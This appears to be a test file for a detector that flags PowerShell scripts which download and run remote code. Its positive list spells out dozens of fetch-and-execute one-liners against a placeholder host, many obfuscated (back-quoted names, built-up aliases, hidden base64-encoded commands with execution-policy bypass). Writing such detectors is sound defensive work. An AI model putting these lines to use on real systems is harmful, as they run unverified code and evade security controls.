// Scripts of PowerShell that run what they download, in the spellings that people and attackers use; and those that look
// like it and are none.

import { expect } from "chai";
import { unverifiedInPowerShell } from "../../policy/shell/powershell";
import { withoutComments } from "../../policy/shell/powershellTokens";
import { bash, component, dockerfile, says, userData } from "./scriptSupport";

const encoded = (text: string): string => Buffer.from(text, "utf16le").toString("base64");

const unverified = [
    // Names of commands: case, module, program, back quotes, aliases of one's own, names that are put together.
    "InVoKe-ReStMeThOd https://a | IEX",
    "i`rm https://a | i`e`x",
    "Microsoft.PowerShell.Utility\\Invoke-Expression (irm https://a)",
    "curl.exe -s https://a | iex",
    "Set-Alias run Invoke-Expression; irm https://a | run",
    "sal -Name run -Value iex; run (irm https://a)",
    "irm https://a | & ('i' + 'ex')",
    "irm https://a | &('ie'+'x')",
    "$c = 'iex'; irm https://a | & $c",
    "& (gcm i*x) (irm https://a)",
    '."iex" (irm https://a)',
    "&'Invoke-Expression' (iwr https://a).Content",
    // Ways to download.
    "iex (iwr https://a -UseBasicParsing).Content",
    "(iwr https://a).Content | iex",
    "iex ([Net.WebClient]::new().DownloadString('https://a'))",
    "iex ((New-Object Net.WebClient).'DownloadString'('https://a'))",
    "$w = New-Object Net.WebClient; iex $w.DownloadString('https://a')",
    "$w = New-Object Net.WebClient\n$t = $w.DownloadString('https://a')\nInvoke-Expression -Command $t",
    "iex ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('https://a')))",
    "iex ((New-Object IO.StreamReader((New-Object Net.WebClient).OpenRead('https://a'))).ReadToEnd())",
    "iex ([Net.Http.HttpClient]::new().GetStringAsync('https://a').Result)",
    "$r = [Net.WebRequest]::Create('https://a').GetResponse(); iex (New-Object IO.StreamReader($r.GetResponseStream())).ReadToEnd()",
    // Ways on: variables, strings, blocks.
    "$s = irm https://a; $t = $s; iex $t",
    "$s = ''; $s += irm https://a; iex $s",
    "$script:s = irm https://a; iex $s",
    'iex "& { $(irm https://a) } -Quiet"',
    "iex \"& { $((New-Object Net.WebClient).DownloadString('https://a')) }\"",
    '$s = irm https://a; iex "$s"',
    "$s = irm https://a; iex ('Set-X; ' + $s)",
    "irm https://a | ForEach-Object { iex $_ }",
    "irm https://a | % { Invoke-Expression $PSItem }",
    "irm https://a | Out-String | iex",
    "try { irm https://a | iex } catch { exit 1 }",
    "if ($true) {\n  irm https://a |\n    iex\n}",
    "function Get-It { irm https://a | iex }\nGet-It",
    "Start-Job { irm https://a | iex }",
    "$x = & { irm https://a }; iex $x",
    "irm `\n  https://a `\n  | iex",
    "irm https://a # the installer\n| iex",
    "irm https://a <# all\nof it #> | iex",
    // Ways to run.
    "& ([scriptblock]::Create((irm https://a)))",
    "$b = [ScriptBlock]::Create((irm https://a)); & $b",
    "[scriptblock]::Create($(irm https://a)).Invoke()",
    "$ExecutionContext.InvokeCommand.InvokeScript((irm https://a))",
    "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://a'))",
    "irm https://a | powershell -NoProfile -",
    "irm https://a | pwsh",
    "iex 'irm https://a | iex'",
    // Through files.
    "iwr https://a -OutFile a.ps1; & .\\a.ps1",
    "iwr https://a -OutF $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1",
    "iwr https://a -o a.exe; .\\a.exe /S",
    "curl.exe -o a.ps1 https://a; . ./a.ps1",
    "$p = 'C:\\t\\a.ps1'; iwr https://a -OutFile $p; & $p",
    '$p = "$env:TEMP\\a.ps1"; iwr https://a -OutFile $p; powershell -ExecutionPolicy Bypass -File $p',
    "Start-BitsTransfer https://a/a.ps1 C:\\a.ps1; C:\\a.ps1",
    "Start-BitsTransfer -Source https://a/a.exe -Destination C:\\a.exe\nStart-Process -Wait C:\\a.exe -ArgumentList '/S'",
    "(New-Object Net.WebClient).DownloadFile('https://a', 'C:\\a.exe'); Start-Process -FilePath 'C:\\a.exe'",
    "$w = [Net.WebClient]::new(); $w.DownloadFile('https://a', \"a.ps1\")\n.\\a.ps1",
    "irm https://a | Out-File a.ps1; .\\a.ps1",
    "Set-Content -Path a.ps1 -Value (irm https://a); .\\a.ps1",
    "[IO.File]::WriteAllText('a.ps1', (irm https://a)); & 'a.ps1'",
    "iwr https://a -OutFile a.txt; Get-Content a.txt -Raw | iex",
    "iwr https://a -OutFile a.txt; iex (gc a.txt | Out-String)",
    "iwr https://a -OutFile a.txt; Rename-Item a.txt a.ps1; .\\a.ps1",
    "iwr https://a -OutFile a.psm1; Import-Module ./a.psm1",
    "Start-Process powershell -ArgumentList '-Command irm https://a | iex'",
    // Another PowerShell.
    `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encoded("iex (irm https://a)")}`,
    `pwsh -EncodedCommand ${encoded("irm https://a | iex")}`,
    `powershell /ec ${encoded("irm https://a | iex")}`,
    `powershell -e ${encoded(`powershell -enc ${encoded("irm https://a | iex")}`)}`,
    "powershell irm https://a '|' iex",
    "powershell -Command { irm https://a | iex }",
    'cmd /c powershell -c "irm https://a | iex"',
    'cmd.exe /c "powershell -c irm https://a | iex"',
];

const harmless = [
    'Write-Host "run: irm https://a | iex"',
    "$help = 'irm https://a | iex'; Write-Output $help",
    "@'\nirm https://a | iex\n'@ | Set-Content readme.txt",
    "# iex (irm https://a)",
    "Get-Process | Where-Object { $_.Name -eq 'iex' }",
    "$json = irm https://a; $json.version",
    "irm https://a | ConvertTo-Json | Out-File a.json",
    "iwr https://a -OutFile a.zip; Expand-Archive a.zip -DestinationPath C:\\a",
    "iwr https://a -OutFile a.exe\nif ((Get-FileHash a.exe -Algorithm SHA256).Hash -ne 'ab') { throw 'no' }\n.\\a.exe /S",
    "iwr https://a -OutFile a.exe; if ((Get-AuthenticodeSignature a.exe).Status -ne 'Valid') { exit 1 }; & .\\a.exe",
    "iwr https://a -OutFile b.exe; & .\\a.exe",
    "Start-Process msiexec -ArgumentList '/i', 'a.msi', '/qn' -Wait",
    "iex 'Get-Service'",
    "& 'C:\\Program Files\\a\\a.exe' --install",
    "powershell -File C:\\scripts\\a.ps1",
    `powershell -enc ${encoded("Get-Service")}`,
    "$s = irm https://a; $s = 'Get-Date'; iex $s",
];

describe("The parser of PowerShell", () => {
    for (const text of unverified) {
        it(`finds what is run in ${JSON.stringify(text)}`, () => {
            expect(unverifiedInPowerShell(text)).to.have.lengthOf(1);
        });
    }
    for (const text of harmless) {
        it(`finds nothing in ${JSON.stringify(text)}`, () => {
            expect(unverifiedInPowerShell(text)).to.deep.equal([]);
        });
    }

    it("is asked wherever a script may stand", () => {
        const text = "irm https://a | i`ex";
        const found = (given: Parameters<typeof says>[0]) => expect(says(given)).to.have.lengthOf(1);
        found(component("ExecutePowerShell", { commands: [text] }));
        found(component("ExecuteBinary", { path: "powershell.exe", arguments: ["-Command", text] }));
        found(userData(`<powershell>\n${text}\n</powershell>`));
        found(dockerfile(`SHELL ["powershell", "-Command"]\nRUN ${text}`));
        found(bash('pwsh -c "irm https://a | iex"'));
    });

    it("takes comments and continuations away, and leaves strings as they are", () => {
        expect(withoutComments("a <# b #> 'c # d' `\n e # f\ng")).to.equal("a  'c # d'  e \ng");
    });

    it("is bounded", () => {
        for (const text of ["(", "{", "$(", '"$(', "@'", "`", "iex '", "& ", "|", "-enc A", "${", "a.b("])
            expect(unverifiedInPowerShell(text.repeat(65_536 / text.length))).to.deep.equal([]);
    });
});
